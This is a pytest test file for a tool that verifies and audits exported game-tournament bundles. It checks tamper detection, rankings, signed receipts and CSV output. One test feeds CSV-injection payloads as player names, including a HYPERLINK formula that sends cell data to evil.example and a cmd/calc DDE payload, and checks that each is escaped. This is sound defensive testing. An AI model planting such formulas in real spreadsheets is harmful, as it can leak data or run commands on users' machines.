"""The tournament bundle: its format, ``python -m replays verify BUNDLE`` and ``python -m replays audit BUNDLE``.

Two tournament tables between bots are played in memory, exported with their seeds, and bundled with a manifest
whose standings come from ``table_standing``; each test tampers with a copy the way a dishonest organiser might.
"""

from __future__ import annotations

import csv
import io
import random
import subprocess
import sys
from pathlib import Path

import msgspec
import pytest

from replays.__main__ import main
from replays.bundle import _final, verify_bundle
from service.events.envelope import canonical
from service.rules.engine import export_header
from service.rules.sheets import BOM
from service.rules.free_parking.bundle import (
    CSV_COLUMNS,
    FORMAT,
    RANKING_COLUMNS,
    BundleError,
    Manifest,
    dump_bundle,
    is_bundle,
    load_bundle,
    ranking_csv,
    ranking_of,
    standings_csv,
    standings_of,
    table_of,
)
from service.rules.free_parking.standings import PlayerStanding, RoundScore, TableStanding
from service.sim.games import START_AT, new_game, play

from .forge import index_of, replace, with_public

ROOT = Path(__file__).resolve().parents[2]
TABLES = ((3, ("greedy", "random", "greedy")), (2, ("greedy", "greedy")))


def _table(i: int, seats: int, bots: tuple[str, ...], *, like: int | None = None):
    """Table ``i``, played as table ``like`` is (same seed, same moves) when given: its twin, every player tied."""
    twin = i if like is None else like
    sim = new_game("free-parking", seats, bytes([twin + 1]) * 32, f"g-{i}", list(bots), {"mode": "tournament"})
    for _ in play(sim, list(bots), random.Random(twin), bot_key=f"g-{twin}"):
        pass
    return export_header(sim.game, with_seed=True), sim.envelopes


def _manifest(exports, **changes) -> Manifest:
    """As the export writes it: the standings and the ranking recomputed from the logs."""
    tables = [table_of(i, header, envelopes) for i, (header, envelopes) in enumerate(exports)]
    manifest = Manifest(
        tournament_id="t-spring",
        name="Spring Cup",
        kind="free-parking",
        options=msgspec.Raw(canonical({"mode": "tournament"})),
        created_at=START_AT,
        status="finished",
        tables=tables,
        standings=standings_of(exports),
        ranking=ranking_of(tables, standings_of(exports)),
    )
    return replace(manifest, **changes)


@pytest.fixture(scope="module")
def tournament():
    exports = [_table(i, seats, bots) for i, (seats, bots) in enumerate(TABLES)]
    return _manifest(exports), exports


def _write(tmp_path: Path, manifest: Manifest, exports) -> str:
    path = tmp_path / "bundle.ndjson"
    path.write_bytes(b"".join(dump_bundle(manifest, exports)))
    return str(path)


def _rows(data: bytes) -> list[dict[str, str]]:
    """A CSV's rows, once it is checked to be UTF-8 that starts with its BOM."""
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _verify(tmp_path, capsys, manifest, exports) -> tuple[int, list[str]]:
    code = main(["verify", _write(tmp_path, manifest, exports)])
    return code, capsys.readouterr().out.splitlines()


def test_the_tables_are_tournaments_of_several_rounds_with_specials(tournament):
    manifest, exports = tournament
    assert all(s.finished and s.rounds >= 2 for s in manifest.standings)
    types = {env.type for _, envelopes in exports for env in envelopes}
    assert {"officer_jones_played", "time_expires_played", "talked_out"} <= types


def test_a_bundle_round_trips_byte_for_byte(tournament):
    manifest, exports = tournament
    data = b"".join(dump_bundle(manifest, exports))
    assert is_bundle(data) and not is_bundle(data.split(b"\n", 1)[1])
    assert load_bundle(data) == (manifest, exports)
    assert b"".join(dump_bundle(*load_bundle(data))) == data
    first = msgspec.json.decode(data.split(b"\n", 1)[0])
    assert (first["type"], first["format"]) == ("manifest", FORMAT)


def test_a_good_bundle_verifies(tournament, tmp_path, capsys):
    code, lines = _verify(tmp_path, capsys, *tournament)
    assert code == 0, lines
    assert [line.split(":")[0] for line in lines[:-1]] == ["OK table 0 (game g-0)", "OK table 1 (game g-1)"]
    events = sum(len(envelopes) for _, envelopes in tournament[1])
    assert lines[-1] == (
        f"OK tournament t-spring (Spring Cup): 2 tables, {events} events: every log verified, "
        "the manifest and its standings match the logs"
    )


def test_progress_follows_every_event_of_every_table(tournament):
    manifest, exports = tournament
    seen: list[int] = []
    assert verify_bundle(manifest, exports, progress=seen.append).ok
    assert seen == sorted(seen) and seen[-1] == sum(len(envelopes) for _, envelopes in exports)


def test_the_standings_csv_has_one_row_per_player_per_round(tournament):
    manifest, _ = tournament
    data = standings_csv(manifest)
    assert data.startswith((BOM + ",".join(CSV_COLUMNS) + "\r\n").encode())
    rows = _rows(data)
    assert len(rows) == sum(len(p.rounds) for s in manifest.standings for p in s.players)
    s = manifest.standings[1]
    p = s.players[0]
    r = p.rounds[1]
    row = next(x for x in rows if x["game_id"] == "g-1" and x["name"] == p.name and x["round"] == "2")
    assert row == {
        "tournament_id": "t-spring", "table": "1", "game_id": "g-1", "player_id": "", "name": p.name, "round": "2",
        "seat": str(r.seat), "score": str(r.score), "bonus": str(r.bonus), "total": str(r.total),
        "winner": "yes" if p.winner else "no",
        "rank": str(next(x.rank for x in manifest.ranking if x.table == 1 and x.name == p.name)),
    }  # fmt: skip


def test_the_standings_csv_opens_no_formula_in_a_spreadsheet(tournament):
    """OWASP's CSV injection: a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
    written with a leading ``'``; other text is as it was, and the numbers the service writes stay numbers."""
    manifest, _ = tournament
    names = {
        '=HYPERLINK("http://evil.example/?x="&A1,"click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
        "-2+3": "'-2+3",
        "@SUM(A1:A9)": "'@SUM(A1:A9)",
        "\tTab": "'\tTab",
        "\rReturn": "'\rReturn",
        "Ann": "Ann",
        "'Bo": "'Bo",
        "Cy = 1": "Cy = 1",
    }
    rounds = [RoundScore(round=1, seat=0, score=-3, bonus=-1, total=-3)]
    players = [PlayerStanding(player_id="=p" if i == 0 else None, name=name, rounds=rounds, total=-3) for i, name in enumerate(names)]
    game_id = manifest.standings[0].game_id
    forged = replace(manifest, tournament_id="@t", standings=[TableStanding(game_id=game_id, rounds=1, players=players)])
    rows = _rows(standings_csv(forged))
    assert [row["name"] for row in rows] == list(names.values())
    assert {row["tournament_id"] for row in rows} == {"'@t"} and rows[0]["player_id"] == "'=p"
    assert all((row["score"], row["bonus"], row["total"], row["round"]) == ("-3", "-1", "-3", "1") for row in rows)
    assert {row["rank"] for row in rows} == {"1"}  # every player level on -3
    ranked = _rows(ranking_csv(forged))
    assert sorted(row["name"] for row in ranked) == sorted(names.values())
    assert {row["tournament_id"] for row in ranked} == {"'@t"} and {row["total"] for row in ranked} == {"-3"}
    assert next(row for row in ranked if row["name"] == "Ann")["player_id"] == ""


def test_a_score_altered_in_the_manifest_names_table_player_and_round(tournament, tmp_path, capsys):
    manifest, exports = tournament
    standings = msgspec.json.decode(msgspec.json.encode(manifest.standings), type=list[TableStanding])
    player = standings[1].players[0]
    true_score = player.rounds[1].score
    player.rounds[1] = replace(player.rounds[1], score=true_score + 25)
    code, lines = _verify(tmp_path, capsys, replace(manifest, standings=standings), exports)
    assert code == 1
    assert f"table 1 (game g-1): player {player.name} round 2: manifest says score {true_score + 25}, the log says {true_score}" in lines
    assert lines[-1] == "REJECTED tournament t-spring (Spring Cup): 2 of 2 logs verified, 1 problem with the manifest"


def test_a_dropped_table_is_named(tournament, tmp_path, capsys):
    manifest, exports = tournament
    code, lines = _verify(tmp_path, capsys, manifest, exports[:1])
    assert code == 1
    assert "table 1 (game g-1): its log is missing from the bundle" in lines


def test_swapped_logs_are_named(tournament, tmp_path, capsys):
    manifest, exports = tournament
    code, lines = _verify(tmp_path, capsys, manifest, exports[::-1])
    assert code == 1
    assert "table 0 (game g-0): out of order: the bundle's log 1 is game g-1 (table 1)" in lines
    assert "table 1 (game g-1): out of order: the bundle's log 2 is game g-0 (table 0)" in lines


def test_a_log_under_another_tables_entry_is_named(tournament, tmp_path, capsys):
    """The manifest's entries swapped instead: each entry's seed, head and count now disagree with its log."""
    manifest, exports = tournament
    first, second = manifest.tables
    tables = [replace(second, table=0, game_id="g-0"), replace(first, table=1, game_id="g-1")]
    code, lines = _verify(tmp_path, capsys, replace(manifest, tables=tables), exports)
    assert code == 1
    assert any(line.startswith("table 0 (game g-0): manifest says head ") for line in lines)
    assert any(line.startswith("table 1 (game g-1): manifest says seed ") for line in lines)


def test_an_event_altered_in_a_log_names_its_table(tournament, tmp_path, capsys):
    manifest, exports = tournament
    header, envelopes = exports[1]
    i = index_of(envelopes, "errand_run")
    forged = envelopes[:i] + [with_public(envelopes[i], points=999)] + envelopes[i + 1 :]
    code, lines = _verify(tmp_path, capsys, manifest, [exports[0], (header, forged)])
    assert code == 1
    assert lines[0].startswith("OK table 0 (game g-0)")
    assert lines[1].startswith(f"REJECTED table 1 (game g-1): seq {i + 1}: ")
    assert lines[-1] == "REJECTED tournament t-spring (Spring Cup): 1 of 2 logs verified"


def test_a_malformed_bundle_is_refused_with_its_line(tournament, tmp_path, capsys):
    manifest, exports = tournament
    lines = b"".join(dump_bundle(manifest, exports)).split(b"\n")
    lines[5] = b'{"not": "an event"}'
    with pytest.raises(BundleError, match="^line 6: neither a table's header"):
        load_bundle(b"\n".join(lines))
    with pytest.raises(BundleError, match="^line 2: an event envelope before any table's header"):
        load_bundle(b"\n".join(lines[:1] + lines[2:]))
    path = tmp_path / "broken.ndjson"
    path.write_bytes(b"\n".join(lines))
    assert main(["verify", str(path)]) == 1
    assert capsys.readouterr().out.startswith(f"REJECTED {path}: line 6: ")


def test_the_audit_tells_each_table_round_special_and_winner(tournament, tmp_path, capsys):
    manifest, exports = tournament
    out_csv = tmp_path / "standings.csv"
    assert main(["audit", _write(tmp_path, manifest, exports), "--csv", str(out_csv)]) == 0
    report = capsys.readouterr().out
    assert report.startswith("Tournament Spring Cup (t-spring): free-parking, 2 tables, finished, created 2026-01-01T00:00:00.000Z")
    assert "Verification: OK tournament t-spring" in report
    for i, (header, envelopes) in enumerate(exports):
        standing = manifest.standings[i]
        assert f"Table {i} (game g-{i}): " in report
        for n in range(1, standing.rounds + 1):
            assert f"round {n} ends: " in report
        for env in envelopes:
            words = {"officer_jones_played": "Officer Jones", "time_expires_played": "Time Expires", "talked_out": "Talk Your Way Out of It"}
            if env.type in words:
                assert f"seq {env.seq}  {words[env.type]}: " in report
        assert f"winner {standing.winner.name} with {standing.winner.total}" in report
    assert out_csv.read_bytes() == standings_csv(manifest)


def test_the_audit_of_a_tampered_bundle_says_so_and_exits_1(tournament, tmp_path, capsys):
    manifest, exports = tournament
    assert main(["audit", "-q", _write(tmp_path, manifest, exports[:1])]) == 1
    report = capsys.readouterr().out
    assert "Verification: REJECTED tournament t-spring" in report
    assert "  table 1 (game g-1): its log is missing from the bundle" in report


def test_a_bundle_verifies_and_audits_without_redis_or_sanic(tournament, tmp_path):
    path = _write(tmp_path, *tournament)
    script = (
        "import sys\n"
        "for name in ('redis', 'sanic', 'fakeredis', 'service.api', 'service.projections', 'service.store.store'):\n"
        "    sys.modules[name] = None  # importing any of them now fails\n"
        "from replays.__main__ import main\n"
        f"sys.exit(main(['verify', {path!r}]) or main(['audit', {path!r}]))\n"
    )
    run = subprocess.run([sys.executable, "-c", script], check=False, cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert run.returncode == 0, run.stdout + run.stderr
    assert "OK tournament t-spring" in run.stdout


def _signed(ring, header, envelopes, versions) -> list:
    from service.events.receipt import Signed

    return [ring.sign(Signed(game_id=header.game_id, version=v, head=envelopes[v - 1].hash, at=envelopes[v - 1].at,
                             key_id=ring.key_id)) for v in versions]


def test_a_players_receipts_are_checked_against_their_own_table_in_the_bundle(tournament, tmp_path, capsys):
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from service.api.signing import Keyring, _entry, public_bytes

    key = Ed25519PrivateKey.generate()
    ring = Keyring(key, [_entry(key, 0)])
    manifest, exports = tournament
    header, envelopes = exports[1]
    kept = _signed(ring, header, envelopes, [5, len(envelopes) // 2, len(envelopes)])
    receipts = tmp_path / "receipts.json"
    receipts.write_bytes(msgspec.json.encode(kept))
    evidence = ["--receipts", str(receipts), "--key", public_bytes(key).hex()]
    bundle = _write(tmp_path, manifest, exports)
    assert main(["verify", bundle, *evidence]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert any(line.startswith("OK g-1: 3 receipts agree") for line in lines), lines
    # a receipt of that table the log disagrees with (another head, signed): the table and version are named
    wrong = replace(kept[1], head="0" * 64)
    receipts.write_bytes(msgspec.json.encode([ring.sign(wrong)]))
    assert main(["verify", bundle, *evidence]) == 1
    assert any(line.startswith(f"REJECTED g-1: seq {kept[1].version}: receipt: head") for line in capsys.readouterr().out.splitlines())


# --- the ranking across tables ------------------------------------------------------------------


@pytest.fixture(scope="module")
def twins():
    """Two tables played alike (same seed, same moves): each player is level with their twin at the other table."""
    seats, bots = TABLES[0]
    exports = [_table(i, seats, bots, like=0) for i in range(2)]
    return _manifest(exports, tournament_id="t-twins"), exports


TIED = [1, 1, 3, 3, 5, 5]  # competition ranking: the place after a tie of two is skipped


def test_tied_players_share_a_rank_in_the_manifest_the_audit_and_both_csvs(twins, tmp_path, capsys):
    manifest, exports = twins
    assert [r.rank for r in manifest.ranking] == TIED
    assert [r.table for r in manifest.ranking] == [0, 1] * 3  # inside a tie: by table, then name
    assert manifest.ranking[0].winner and manifest.ranking[0].rounds_won == sum(r.bonus > 0 for r in manifest.standings[0].winner.rounds)
    rounds_csv, ranked_csv = tmp_path / "standings.csv", tmp_path / "ranking.csv"
    bundle = _write(tmp_path, manifest, exports)
    assert main(["audit", "-q", bundle, "--csv", str(rounds_csv), "--ranking-csv", str(ranked_csv)]) == 0
    report = capsys.readouterr().out.splitlines()
    overall = report[report.index("Ranking across tables (table winners first, then points; level players share a rank)") + 1:]
    assert [line.split(".")[0].strip() for line in overall] == [str(n) for n in TIED]
    for r, line in zip(manifest.ranking, overall, strict=True):
        assert line.startswith(f"  {r.rank}. {r.name} {r.total} (table {r.table}, {r.rounds_won} of {r.rounds} rounds won")
    rows = _rows(ranked_csv.read_bytes())
    assert tuple(rows[0]) == RANKING_COLUMNS and [int(row["rank"]) for row in rows] == TIED
    assert [(row["name"], int(row["table"]), row["game_id"], int(row["total"]), int(row["rounds_won"])) for row in rows] == [
        (r.name, r.table, f"g-{r.table}", r.total, r.rounds_won) for r in manifest.ranking
    ]
    ranks = {(int(row["table"]), row["name"]): row["rank"] for row in _rows(rounds_csv.read_bytes())}
    assert ranks == {(r.table, r.name): str(r.rank) for r in manifest.ranking}


def test_a_table_with_level_players_ranks_them_alike_in_the_audit(tournament, tmp_path, capsys):
    """The audit's per-table standings numbered level players 3 and 4 where the API shares a rank: no longer."""
    manifest, exports = tournament
    level = replace(manifest.standings[0], players=[replace(p, total=100, winner=False) for p in manifest.standings[0].players])
    lines = _final("table 0 (game g-0)", 0, level)
    assert [line.split(".")[0].strip() for line in lines[1:]] == ["1"] * len(level.players)


def test_every_csv_is_utf8_with_a_bom_so_accents_survive(tournament):
    manifest, _ = tournament
    game_id = manifest.standings[0].game_id
    rounds = [RoundScore(round=1, seat=0, score=40, bonus=25, total=40)]
    names = ["Zoë", "José", "Łukasz", "李"]
    players = [PlayerStanding(player_id=None, name=n, rounds=rounds, total=40) for n in names]
    forged = replace(manifest, standings=[TableStanding(game_id=game_id, rounds=1, players=players)])
    for data, listed in ((standings_csv(forged), names), (ranking_csv(forged), sorted(names))):  # a tie: by name
        assert data[:3] == b"\xef\xbb\xbf" and data.count(b"\xef\xbb\xbf") == 1 and "Zoë".encode() in data
        assert [row["name"] for row in _rows(data)] == listed


def _old(manifest: Manifest, exports) -> bytes:
    """The bundle as written before the ranking was published: its manifest line has no ``ranking``."""
    first, rest = b"".join(dump_bundle(manifest, exports)).split(b"\n", 1)
    line = msgspec.json.decode(first)
    del line["ranking"]
    return canonical(line) + b"\n" + rest


def test_a_bundle_written_before_the_ranking_still_verifies_and_audits(twins, tmp_path, capsys):
    manifest, exports = twins
    path = tmp_path / "old.ndjson"
    path.write_bytes(_old(manifest, exports))
    old, _ = load_bundle(path.read_bytes())
    assert old.ranking is None and verify_bundle(old, exports).ok
    assert main(["verify", str(path)]) == 0
    out = tmp_path / "ranking.csv"
    assert main(["audit", "-q", str(path), "--ranking-csv", str(out)]) == 0
    assert "Ranking across tables" in capsys.readouterr().out
    assert out.read_bytes() == ranking_csv(manifest)  # recomputed from the standings, as the export writes it


def test_a_ranking_edited_in_the_manifest_is_refused(twins, tmp_path, capsys):
    manifest, exports = twins
    edited = list(manifest.ranking)
    edited[1] = replace(edited[1], rank=2)  # the twin's tie broken in the manifest only
    code, lines = _verify(tmp_path, capsys, replace(manifest, ranking=edited), exports)
    r = manifest.ranking[1]
    assert code == 1
    assert (f"ranking line 2: manifest says 2. {r.name} of table 1: total {r.total}, {r.rounds} rounds, "
            f"{r.rounds_won} won, winner, the logs say 1. {r.name} of table 1: total {r.total}, {r.rounds} rounds, "
            f"{r.rounds_won} won, winner") in lines
    assert lines[-1] == "REJECTED tournament t-twins (Spring Cup): 2 of 2 logs verified, 1 problem with the manifest"
    code, lines = _verify(tmp_path, capsys, replace(manifest, ranking=manifest.ranking[:-1]), exports)
    assert code == 1 and any(line.startswith("ranking line 6: manifest says no such line, the logs say 5. ") for line in lines)


def test_tables_verified_in_several_processes_give_the_same_verdict(tournament):
    manifest, exports = tournament
    header, envelopes = exports[1]
    i = index_of(envelopes, "errand_run")
    forged = [exports[0], (header, envelopes[:i] + [with_public(envelopes[i], points=999)] + envelopes[i + 1 :])]
    for logs in (exports, forged):
        seen: list[int] = []
        alone, together = verify_bundle(manifest, logs), verify_bundle(manifest, logs, progress=seen.append, jobs=2)
        assert together == alone
        assert seen == sorted(seen) and seen[-1] == sum(len(envelopes) for _, envelopes in logs)
    assert not verify_bundle(manifest, forged, jobs=2).ok


def test_the_cli_takes_jobs_and_refuses_a_number_that_is_none(tournament, tmp_path, capsys):
    path = _write(tmp_path, *tournament)
    assert main(["verify", "--jobs", "2", path]) == 0
    assert capsys.readouterr().out.splitlines()[-1].startswith("OK tournament t-spring")
    with pytest.raises(SystemExit):
        main(["verify", "--jobs", "0", path])
    assert "not a number of processes" in capsys.readouterr().err
